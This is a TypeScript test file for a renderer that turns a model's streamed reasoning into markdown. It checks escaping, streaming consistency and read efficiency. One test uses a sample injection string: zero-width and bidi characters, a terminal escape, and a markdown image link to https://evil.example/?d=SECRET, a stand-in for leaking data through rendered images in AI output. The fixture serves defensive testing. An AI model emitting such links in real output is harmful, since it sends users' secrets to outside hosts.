import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { LogEvent } from "../../../src/core/events.ts";
import { foldRun } from "../../../src/core/foldRun.ts";
import { foldLog } from "../../../src/core/history/storedRun.ts";
import { itemsOf } from "../../../src/core/longList.ts";
import { moveBlock } from "../../../src/core/longText.ts";
import { createReasoningReport, reasoningReport } from "../../../src/core/reasoningReport.ts";
import type { RunState } from "../../../src/core/runState.ts";
import { runStart } from "../../support/coreLog.ts";
import { hostilePieces, onlyCode } from "../../support/markdownElements.ts";

const begun = { ...runStart, at: 0 } as const;

const delta = (text: string, part = 0): LogEvent => ({ type: "reasoning-delta", at: 1, part, provenance: "raw", text });

function stateOf(texts: readonly string[], start: Partial<typeof begun> = {}): RunState {
  const state = foldLog([{ ...begun, ...start }, ...texts.map((text) => delta(text))]);
  assert.ok(state !== undefined);
  return state;
}

test("reasoning document: whatever models and users write makes no element but code", () => {
  const words = fc.array(fc.constantFrom(...hostilePieces), { maxLength: 12 }).map((pieces) => pieces.join(""));
  fc.assert(
    fc.property(words, words, words, words, (instruction, model, thought, note) => {
      const marked = [delta(`x${thought}`), { type: "passage-noted", at: 2, passage: "0:0", note } as const];
      const state = foldLog([{ ...begun, instruction, model, target: model }, ...marked]);
      assert.ok(state !== undefined);
      assert.equal(onlyCode(reasoningReport(state)).headings, note.trim() === "" ? 2 : 3);
    }),
    { numRuns: 500 },
  );
});

test("reasoning document: what hides, turns text round or drives a terminal is written out", () => {
  const state = stateOf(["a\u200bb\u202ec\x1b[31md ![x](https://evil.example/?d=SECRET)"], { instruction: "do\u200b" });
  const text = reasoningReport(state);
  assert.match(text, /^# ` do⟨U\+200B⟩ `\n/);
  assert.match(text, /```text\na⟨U\+200B⟩b⟨U\+202E⟩c␛\[31md !\[x\]\(https:\/\/evil\.example\/\?d=SECRET\)\n```/);
});

test("reasoning document: taken up bit by bit it is the same as at once", () => {
  const piece = fc.constantFrom(
    "a ",
    "line\n",
    "👩‍👧",
    "👨",
    "\u200d",
    "👧\n",
    "`",
    "````\n",
    "\r",
    "\n",
    "\u200b",
    "x".repeat(70_000),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(piece, fc.nat(2)), { maxLength: 30 }), fc.nat(4), (pieces, every) => {
      const report = createReasoningReport();
      let state: RunState | undefined = foldLog([begun]);
      for (const [index, [text, part]] of pieces.entries()) {
        state = foldRun(state, delta(text, part));
        assert.ok(state !== undefined);
        if (index % (every + 1) === 0) while (report.take(state, 1));
      }
      assert.ok(state !== undefined);
      assert.equal(report.text(state), reasoningReport(state));
    }),
    { numRuns: 300 },
  );
});

test("reasoning document: each character is read once, however often the document is written", () => {
  const line = `${"word ".repeat(20)}\n`;
  let read = 0;
  let kept = "";
  const store = {
    waiting: 0,
    append(text: string) {
      kept += text;
      return kept.length - text.length;
    },
    read(start: number, end: number) {
      read += end - start;
      return kept.slice(start, end);
    },
  };
  const report = createReasoningReport();
  let state: RunState | undefined = foldLog([begun]);
  for (let at = 0; at < 200; at += 1) {
    state = foldRun(state, delta(line.repeat(100)));
    assert.ok(state !== undefined);
    const text = itemsOf(state.reasoning)[0]?.text ?? "";
    if (typeof text !== "string") for (const block of text.blocks) moveBlock(block, store);
    while (report.take(state, 10_000));
    assert.ok(report.text(state).endsWith("\n```\n\n"));
  }
  const length = line.length * 100 * 200;
  assert.ok(read <= length * 1.2, `${read} characters of ${length} were read back`);
});
